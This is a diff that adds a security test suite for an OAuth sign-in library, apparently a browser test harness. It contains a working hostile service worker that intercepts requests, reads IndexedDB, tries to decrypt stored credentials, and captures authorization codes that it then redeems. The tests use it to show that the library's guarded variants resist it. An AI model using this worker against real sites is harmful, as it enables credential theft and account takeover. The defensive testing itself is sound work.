@@ -1,0 +1,167 @@
+/** Hostile script registers a service worker of its own, from an address of the origin that serves what the attacker wrote. */
+import { expect, query, signedIn, test, type TestApp, type Variation } from './attack.js';
+import { authorize, ownRequest, redeem } from '../oauth-client.js';
+
+/** A worker that tells the pages of its origin everything it comes across, and lets nothing pass. */
+const spy = `
+  const tell = (loot) => new BroadcastChannel('loot').postMessage(String(loot));
+  addEventListener('install', () => skipWaiting());
+  addEventListener('activate', (event) => event.waitUntil(clients.claim()));
+  addEventListener('fetch', (event) => {
+    tell(event.request.url);
+    if (event.request.mode === 'navigate')
+      event.respondWith(new Response('<title>spied on</title>', { headers: { 'content-type': 'text/html' } }));
+  });
+  // What its own rights open: storage, the worker's script, and the headers of its own fetch.
+  async function rob() {
+    for (const { name } of await indexedDB.databases()) {
+      const db = await new Promise((resolve) => {
+        const request = indexedDB.open(name);
+        request.onsuccess = () => resolve(request.result);
+      });
+      const all = (store) => new Promise((resolve) => {
+        const request = db.transaction(store).objectStore(store).getAll();
+        request.onsuccess = () => resolve(request.result);
+      });
+      const keys = await all('keys');
+      for (const { id, portal, fingerprint, sealed: { iv, data } } of await all('credentials')) {
+        tell('a sealed record');
+        const additionalData = new TextEncoder().encode(JSON.stringify([id, portal, fingerprint]));
+        for (const key of keys)
+          await crypto.subtle.decrypt({ name: 'AES-GCM', iv, additionalData }, key, data)
+            .then((bytes) => tell(new TextDecoder().decode(bytes)), () => undefined);
+      }
+      db.close();
+    }
+    for (const cache of ['default', 'force-cache', 'no-store'])
+      tell(await (await fetch('/worker.js', { cache })).text());
+    tell('done');
+  }
+  addEventListener('message', ({ data }) => data === 'rob' && rob());
+`;
+
+let timesAsked = 0;
+const uploads: NonNullable<Variation['intercept']> = (path) => {
+  if (path !== '/upload.js') return undefined;
+  timesAsked += 1;
+  return { headers: { 'content-type': 'text/javascript', 'cache-control': 'max-age=3600' }, body: spy };
+};
+
+// Of one site with the portal, as in an intranet.
+const strict: Variation = {
+  options: { redirect: 'worker', persistence: 'sealed' },
+  isSealed: true,
+  host: '127.0.0.1',
+  intercept: uploads,
+};
+
+/** Puts the spy into the browser's cache, from where another page script is given it without asking the server. */
+async function keepInCache(target: TestApp): Promise<void> {
+  timesAsked = 0;
+  for (let time = 0; time < 2; time += 1) await target.fetch('/upload.js');
+  expect(timesAsked).toBe(1);
+}
+
+/** Registers the spy. @returns Whether the browser let it. */
+const plant = (target: TestApp, scope: string, options: RegistrationOptions = {}): Promise<boolean> =>
+  target.run(
+    async ([where, more]) => {
+      try {
+        const { installing } = await navigator.serviceWorker.register('/upload.js', {
+          scope: where,
+          ...more,
+        });
+        await new Promise<void>((resolve) => {
+          installing?.addEventListener('statechange', () => {
+            if (installing.state === 'activated') resolve();
+          });
+        });
+        return true;
+      } catch {
+        return false;
+      }
+    },
+    [scope, options] as [string, RegistrationOptions],
+  );
+
+/** Ends a code flow of the attacker in a hidden frame. @returns All that the spy and the page around it saw. */
+const endOwnFlow = (target: TestApp, callback: URL): Promise<string> =>
+  target.run(async (url) => {
+    const seen: string[] = [];
+    new BroadcastChannel('loot').addEventListener('message', ({ data }) => seen.push(String(data)));
+    const frame = document.createElement('iframe');
+    frame.hidden = true;
+    frame.src = url;
+    const loaded = new Promise((resolve) => frame.addEventListener('load', resolve));
+    document.body.append(frame);
+    await loaded;
+    seen.push(frame.contentWindow?.location.href ?? '');
+    // A turn of messages more: the spy's came before the answer that loaded the frame.
+    const { port1, port2 } = new MessageChannel();
+    await new Promise((resolve) => {
+      port1.addEventListener('message', resolve);
+      port1.start();
+      port2.postMessage('');
+    });
+    return seen.join('\n');
+  }, callback.href);
+
+/** @returns Answers of the token endpoint for the codes that were seen. */
+async function attack(target: TestApp, scope: string, options?: RegistrationOptions): Promise<string> {
+  await keepInCache(target);
+  const isPlanted = await plant(target, scope, options);
+  const redirectUri = `${target.url}/signed-in.html`;
+  const { url, codeVerifier } = ownRequest(target.portal, redirectUri);
+  const seen = await endOwnFlow(target, await authorize(url, 'ana'));
+  const codes = [...seen.matchAll(/[?&]code=([^&\s#]+)/g)].map(([, code = '']) => decodeURIComponent(code));
+  const answers = await Promise.all(
+    codes.map((code) => redeem(target.portal, code, redirectUri, codeVerifier)),
+  );
+  return [`planted: ${isPlanted}`, ...answers].join('\n');
+}
+
+for (const [name, scope, options] of [
+  ['in the place of the app’s own', '/', {}],
+  ['for the callback page alone', '/signed-in.html', {}],
+  ['out of the browser’s cache', '/signed-in.html', { updateViaCache: 'all' }],
+] as const) {
+  test(`S7: a worker of the attacker’s takes the code at the callback page, registered ${name}`, async ({
+    variant,
+    portal,
+  }) => {
+    const unguarded = await signedIn(await variant({ ...strict, otherWorkers: 'any' }));
+    expect(portal.log.leaks(await attack(unguarded, scope, options)), 'control').not.toEqual([]);
+    const ours = await signedIn(await variant(strict));
+    expect(await attack(ours, scope, options)).toBe('planted: false');
+    // The app's own worker is where it was.
+    expect(await ours.fetchJson(ours.hosted(query))).toEqual({ count: expect.any(Number) });
+  });
+}
+
+test('S1: a worker of the attacker’s takes the place of the app’s own and reads what is stored: not where the level is sealed', async ({
+  variant,
+  portal,
+}) => {
+  const rob = async (target: TestApp): Promise<string> => {
+    await plant(target, '/');
+    return target.run(
+      () =>
+        new Promise<string>((resolve) => {
+          const seen: string[] = [];
+          new BroadcastChannel('loot').addEventListener('message', ({ data }) => {
+            seen.push(String(data));
+            if (data === 'done') resolve(seen.join('\n'));
+          });
+          void navigator.serviceWorker.ready.then(({ active }) => active?.postMessage('rob'));
+        }),
+    );
+  };
+  const persistent = await signedIn(await variant({ intercept: uploads }));
+  expect(portal.log.leaks(await rob(persistent)), 'control').not.toEqual([]);
+  // Even where the server lets it in.
+  const sealed = await signedIn(await variant({ ...strict, otherWorkers: 'any' }));
+  const loot = await rob(sealed);
+  expect(loot).toContain('a sealed record');
+  expect(loot).not.toMatch(/__identityWorkerSeals=\[/);
+  expect(portal.log.leaks(loot)).toEqual([]);
+});
